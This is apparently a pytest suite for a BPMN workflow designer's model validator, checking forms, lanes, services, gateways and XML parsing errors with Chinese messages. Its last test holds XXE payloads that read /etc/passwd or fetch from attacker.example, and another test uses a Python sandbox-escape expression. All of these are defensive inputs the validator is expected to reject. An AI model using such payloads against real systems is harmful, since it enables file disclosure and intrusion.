"""Designer validation: every problem at once, tied to the element, in Chinese."""

from __future__ import annotations

import pytest

from app.workflow.engine import (
    Problem,
    form_exists,
    generic_review_form,
    registered_services,
    validate_model,
)

from .conftest import ROLES, bpmn, flow, read_process


def check(files, **kw):
    kw.setdefault("known_roles", ROLES)
    kw.setdefault("known_services", registered_services())
    kw.setdefault("form_exists", form_exists)
    return validate_model(files, **kw)


def model(task_attrs: str = "", task_ext: str = "", lanes=None, gateway: str | None = None,
          service: str = '<spiffworkflow:serviceTaskOperator id="report.publish">'
                         "<spiffworkflow:parameters/></spiffworkflow:serviceTaskOperator>",
          ) -> dict[str, bytes]:
    """start -> user task t -> gateway gw -> (f3: service svc -> end) | (f4: end)."""
    gateway = gateway if gateway is not None else (
        flow("f3", "gw", "svc", 'decision == "approve"') + flow("f4", "gw", "e2",
                                                                'decision == "return"'))
    body = (
        '<bpmn:startEvent id="s"/>'
        f'<bpmn:userTask id="t" name="审核" {task_attrs}>{task_ext}</bpmn:userTask>'
        '<bpmn:exclusiveGateway id="gw" name="结论"/>'
        f'<bpmn:serviceTask id="svc" name="发布"><bpmn:extensionElements>{service}'
        "</bpmn:extensionElements></bpmn:serviceTask>"
        '<bpmn:endEvent id="e1"/><bpmn:endEvent id="e2"/>'
        + flow("f1", "s", "t") + flow("f2", "t", "gw") + gateway + flow("f5", "svc", "e1"))
    return {"a.bpmn": bpmn(body, lanes=lanes)}


def test_valid_model_without_lanes_or_forms_has_no_problems():
    assert check(model()) == []


def test_valid_model_with_lane_and_form():
    files = model('camunda:formKey="review_decision"', lanes={"reviewer": ["t"]})
    assert check(files) == []


def test_shipped_models_have_no_problems():
    assert check(read_process("enterprise_report")) == []
    assert check(read_process("camunda_sample"),
                 known_services=registered_services() | {"sample.archive"}) == []


def test_missing_form():
    assert check(model('camunda:formKey="no_such_form"')) == [
        Problem("a.bpmn", "t", "用户任务「审核」引用的表单 no_such_form 不存在")]


def test_invalid_form_file():
    bad = {"schema": {"type": "object", "properties": {"x": {"type": "text"}}}}
    problems = check(model('camunda:formKey="bad"'), form_exists=lambda n: True,
                     form_loader=lambda n: bad)
    assert len(problems) == 1
    assert problems[0][:2] == ("a.bpmn", "t")
    assert problems[0].message.startswith(
        "用户任务「审核」的表单 bad 无效: schema 不符合 JSON Schema 2020-12（properties/x/type）")


def test_form_loader_is_used_instead_of_files():
    loaded = []
    files = model('camunda:formKey="from_db"')
    assert check(files, form_exists=lambda n: n == "from_db",
                 form_loader=lambda n: loaded.append(n) or generic_review_form()) == []
    assert loaded == ["from_db"]


def test_inline_camunda_form_is_converted_not_refused():
    ext = ('<bpmn:extensionElements><camunda:formData>'
           '<camunda:formField id="comment" label="意见" type="string"/>'
           "</camunda:formData></bpmn:extensionElements>")
    assert check(model(task_ext=ext)) == []


def test_unknown_lane_role_and_unnamed_lane():
    files = model(lanes={"hacker": ["t"], "": ["svc"]})
    assert check(files) == [
        Problem("a.bpmn", "lane_0", "泳道「hacker」不是已知角色，且未映射到角色"),
        Problem("a.bpmn", "lane_1", "泳道缺少名称（泳道名称应为角色名，或在部署时映射到角色）"),
    ]


def test_unknown_service():
    op = ('<spiffworkflow:serviceTaskOperator id="x.unknown">'
          "<spiffworkflow:parameters/></spiffworkflow:serviceTaskOperator>")
    assert check(model(service=op)) == [
        Problem("a.bpmn", "svc", "服务任务「发布」调用的服务 x.unknown 未注册")]


def test_service_without_name():
    assert check(model(service="")) == [Problem("a.bpmn", "svc", "服务任务「发布」未指定服务名称")]


def test_gateway_without_default_or_conditions():
    gateway = flow("f3", "gw", "svc", 'decision == "approve"') + flow("f4", "gw", "e2")
    assert check(model(gateway=gateway)) == [
        Problem("a.bpmn", "gw", "排他网关「结论」没有默认流，且出口 f4 没有条件")]


def test_gateway_with_default_flow_is_fine():
    files = model(gateway=flow("f3", "gw", "svc", 'decision == "approve"')
                  + flow("f4", "gw", "e2"))
    files["a.bpmn"] = files["a.bpmn"].replace(b'name="\xe7\xbb\x93\xe8\xae\xba"/>',
                                              'name="结论" default="f4"/>'.encode())
    assert check(files) == []
    files["a.bpmn"] = files["a.bpmn"].replace(b'default="f4"', b'default="f9"')
    assert check(files) == [Problem("a.bpmn", "gw", "排他网关「结论」的默认流 f9 不是它的出口")]


def test_unsafe_and_broken_expressions():
    gateway = (flow("f3", "gw", "svc", "().__class__.__mro__")
               + flow("f4", "gw", "e2", "decision ==="))
    problems = check(model(gateway=gateway))
    assert [(p.element_id, p.message.split(":")[0]) for p in problems] == [
        ("f3", "条件表达式不安全"), ("f4", "条件表达式语法错误")]


def test_business_rule_task_needs_a_known_decision():
    body = ('<bpmn:startEvent id="s"/><bpmn:businessRuleTask id="rule" name="分级" '
            'camunda:decisionRef="missing"/><bpmn:endEvent id="e"/>'
            + flow("f1", "s", "rule") + flow("f2", "rule", "e"))
    assert check({"a.bpmn": bpmn(body)}) == [
        Problem("a.bpmn", "rule", "业务规则任务「分级」引用的 DMN 决策 missing 不存在")]


def test_several_problems_are_reported_together():
    files = model('camunda:formKey="no_such_form"', lanes={"hacker": ["t"]},
                  gateway=flow("f3", "gw", "svc", "ok") + flow("f4", "gw", "e2"))
    assert [p.element_id for p in check(files)] == ["t", "lane_0", "gw"]


def test_spiff_parse_errors_are_reported():
    problems = check({"a.bpmn": bpmn('<bpmn:userTask id="t"/>')})
    assert len(problems) == 1
    assert problems[0].file == "a.bpmn"
    assert problems[0].message.startswith("模型解析失败") and "No start event" in \
        problems[0].message


def test_unparsable_xml():
    problems = check({"a.bpmn": b"<bpmn:definitions><unclosed>"})
    assert len(problems) == 1
    assert problems[0][:2] == ("a.bpmn", None)
    assert problems[0].message.startswith("XML 无法解析: ")


def test_not_bpmn_and_no_bpmn():
    assert check({"a.bpmn": b"<html/>"}) == [
        Problem("a.bpmn", None, "既不是 BPMN 2.0 也不是 DMN 文件")]
    assert check({"readme.md": b"# hi"}) == [Problem("", None, "没有 BPMN 文件")]


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE d [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>',
    '<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">',
])
def test_xxe_payload_is_refused(doctype):
    payload = (f'<?xml version="1.0"?>\n{doctype}\n'
               '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
               'id="d"><bpmn:process id="p"><bpmn:documentation>&xxe;</bpmn:documentation>'
               "</bpmn:process></bpmn:definitions>")
    if "SYSTEM \"http://attacker.example/evil.dtd\"" in doctype:
        payload = payload.replace("&xxe;", "")
    assert check({"a.bpmn": payload.encode()}) == [
        Problem("a.bpmn", None, "XML 不得包含 DOCTYPE 或实体声明（XXE 防护）")]
